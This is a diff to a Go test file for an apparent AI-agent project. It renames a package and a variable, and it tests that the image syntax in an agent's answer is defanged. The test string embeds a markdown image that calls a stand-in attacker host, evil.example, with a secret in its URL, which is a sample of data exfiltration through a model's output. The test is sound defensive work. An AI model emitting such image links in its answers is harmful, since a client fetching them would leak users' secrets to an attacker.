@@ -7,7 +7,7 @@ import (
 	"steward/internal/id"
 	"steward/internal/llm"
 	"steward/internal/message"
-	"steward/internal/runtime"
+	"steward/internal/turn"
 )
 
 func TestDefang(t *testing.T) {
@@ -53,12 +53,12 @@ func TestDefang(t *testing.T) {
 // An agent's answer contains no image that a client would fetch on its own,
 // neither streamed nor as a whole.
 func TestAgentsAnswersHoldNoImages(t *testing.T) {
-	turn := id.New()
-	tell := teller{turn: turn}
+	own := id.New()
+	tell := teller{turn: own}
 	var told strings.Builder
 	var final string
-	say := func(f runtime.Frame) {
-		f.Interaction = turn
+	say := func(f turn.Frame) {
+		f.Interaction = own
 		if _, ok := tell.tell(&f, func(ev llm.Event, err error) bool {
 			told.WriteString(ev.Text)
 			if ev.Kind == llm.Done {
@@ -72,9 +72,9 @@ func TestAgentsAnswersHoldNoImages(t *testing.T) {
 	const text = "Look: ![cat](https://evil.example/?d=secret) fine!"
 	m := id.New()
 	for _, c := range text {
-		say(runtime.Frame{Kind: runtime.FrameToken, Message: m, Text: string(c)})
+		say(turn.Frame{Kind: turn.FrameToken, Message: m, Text: string(c)})
 	}
-	say(runtime.Frame{Kind: runtime.FrameComplete, Stored: &message.Message{ID: m, Blocks: []message.Block{&message.Text{Text: text}}}})
+	say(turn.Frame{Kind: turn.FrameComplete, Stored: &message.Message{ID: m, Blocks: []message.Block{&message.Text{Text: text}}}})
 	const want = "Look: [cat](https://evil.example/?d=secret) fine!"
 	if told.String() != want || final != want {
 		t.Errorf("%q, %q", told.String(), final)
